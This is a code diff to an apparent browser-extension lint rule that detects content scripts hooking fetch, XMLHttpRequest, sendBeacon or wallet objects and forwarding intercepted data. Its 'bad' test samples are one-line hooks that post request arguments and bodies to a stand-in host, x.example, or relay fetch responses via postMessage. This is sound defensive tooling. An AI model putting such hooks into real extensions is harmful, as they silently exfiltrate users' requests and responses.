@@ -3,9 +3,11 @@ import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { runsInPages } from './places.ts';
 import { sendingsOf } from './sendings.ts';
-import { few, functionOf } from './usage.ts';
+import { callsWithin, few, functionOf } from './usage.ts';
 
 const TARGETS = /^(fetch|XMLHttpRequest|WebSocket|XMLHttpRequest\.prototype\.(open|send|setRequestHeader)|navigator\.sendBeacon|HTMLFormElement\.prototype\.submit|WebSocket\.prototype\.send|ethereum|ethereum\.request|solana|crypto\.subtle\.\w+|open|JSON\.parse|localStorage\.setItem|Storage\.prototype\.setItem)$/;
+
+const TELLS = /^((parent\.|top\.)?postMessage|(document\.)?dispatchEvent)$/;
 
 export const patchesPageFunctions = defineRule({
   id: 'patches-page-functions',
@@ -20,13 +22,13 @@ export const patchesPageFunctions = defineRule({
   remedy: 'Watch requests with webRequest in the background, or leave them alone.',
   check: checkScripts(function* ({ script, file, facts, hit }) {
     if (!runsInPages(facts, file.path)) return;
-    for (const { value, target, body, quiet } of few(patches(script))) {
+    for (const { value, target, body, quiet, own } of few(patches(script))) {
       const fn = script.functions[body];
       if (fn === undefined) continue;
       // Blockers replace functions too; what tells a listener is that it hands on what it hears.
       const inside = (pos: number): boolean => pos >= fn.start && pos < fn.end;
       const out = sendingsOf(script).find((sending) => inside(sending.pos) && sending.kind === 'network' && /^(https?|wss?):\/\/[^*]/.test(sending.to));
-      const told = callsOf(script, 'postMessage', 'parent.postMessage', 'top.postMessage', 'document.dispatchEvent', 'dispatchEvent').some((call) => inside(call.pos));
+      const told = !own && callsWithin(script, body, 2).some((call) => TELLS.test(apiPath(script, call.callee) ?? ''));
       if (out !== undefined) yield hit(value, { severity: 'high', confidence: 'high', evidence: target, message: `What passes through ${target} is sent to ${out.to}.` });
       else if (told) yield hit(value, { evidence: target, confidence: 'low', message: `What passes through ${target} is handed to other scripts.` });
       else if (!quiet) yield hit(value, { severity: 'low', confidence: 'low', evidence: target });
@@ -37,8 +39,10 @@ export const patchesPageFunctions = defineRule({
       contentExample('const real = window.fetch; window.fetch = function (...args) { real("https://x.example/l", { method: "POST", body: JSON.stringify(args) }); const b = new Image(); b.src = "https://x.example/i?d=" + args[0]; return real.apply(this, args); };'),
       contentExample('const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example/x", body); return send.call(this, body); };'),
       contentExample('const real = window.fetch; window.fetch = async function (u, o) { const r = await real(u, o); window.postMessage({ kind: "net", url: u, body: await r.clone().text() }, "*"); return r; };'),
+      contentExample('const real = window.fetch; const tell = (o) => window.postMessage({ type: "panel", o }, "*"); window.fetch = async (...a) => { const r = await real(...a); const copy = r.clone(); (async () => { tell({ asked: a[1].body, answer: await copy.text() }); })(); return r; };'),
     ],
     good: [
+      contentExample('const ethereum = { request: (a) => new Promise((done) => { window.postMessage({ to: "mine", a }, location.origin); wait(done); }) }; if (!window.ethereum) Object.defineProperty(window, "ethereum", { value: ethereum });'),
       contentExample('if (!window.fetch) load("polyfill"); const f = fetch; f("https://api.example.com/");'),
       contentExample('const api = {}; api.fetch = function () { navigator.sendBeacon("https://x.example"); }; class X { open() { window.postMessage("x"); } }'),
     ],
@@ -52,6 +56,8 @@ interface Patch {
   readonly body: number;
   /** Only worth a word when it hands on what it hears. */
   readonly quiet: boolean;
+  /** A wallet's own object is put where pages look for one: nothing of the page is listened to. */
+  readonly own: boolean;
 }
 
 function patches(script: ScriptFacts): Patch[] {
@@ -59,14 +65,14 @@ function patches(script: ScriptFacts): Patch[] {
   const take = (value: number, target: string | undefined, by: number): void => {
     if (target === undefined || !TARGETS.test(target)) return;
     const body = functionOf(script, by);
-    if (body !== undefined) out.push({ value: value === 0 ? by : value, target, body, quiet: false });
+    if (body !== undefined) out.push({ value: value === 0 ? by : value, target, body, quiet: false, own: false });
     // `new Proxy(fetch, { apply })`, as blockers do too, and objects with functions of their own.
     const found = resolve(script, by);
     const made = script.op[found] === Op.create && apiPath(script, script.a[found] as number) === 'Proxy' ? (listOf(script, script.b[found] as number)[1] ?? 0) : script.op[found] === Op.object ? found : 0;
     for (const name of ['apply', 'get', 'construct', 'request', 'send', 'value']) {
       const inner = made === 0 ? 0 : propertyOf(script, made, name);
       const fn = functionOf(script, inner);
-      if (fn !== undefined) out.push({ value: value === 0 ? by : value, target, body: fn, quiet: true });
+      if (fn !== undefined) out.push({ value: value === 0 ? by : value, target, body: fn, quiet: true, own: script.op[made] === Op.object && made === found && /^(ethereum|solana)$/.test(target) && name !== 'get' });
       else if (name === 'value' && inner !== 0) take(value, target, inner);
     }
   };
